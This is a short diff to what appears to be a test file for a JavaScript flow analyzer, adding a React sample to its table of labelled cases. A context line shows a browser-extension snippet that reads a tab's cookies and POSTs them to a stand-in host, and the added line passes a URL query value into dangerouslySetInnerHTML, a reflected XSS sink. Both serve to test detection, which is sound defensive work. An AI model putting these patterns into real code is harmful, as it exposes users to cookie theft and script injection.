@@ -292,6 +292,11 @@ const WAYS: readonly [what: string, fact: string, text: string][] = [
     'flow.credentials.network',
     "const r = await chrome.scripting.executeScript({ target: { tabId: 1 }, func: () => document.cookie }); await fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(r) })",
   ],
+  [
+    'the address of the page as markup of React',
+    'flow.input.eval',
+    "const A = () => <p dangerouslySetInnerHTML={{ __html: new URLSearchParams(location.search).get('q') }} />",
+  ],
 ]
 
 describe('a way through JavaScript', () => {
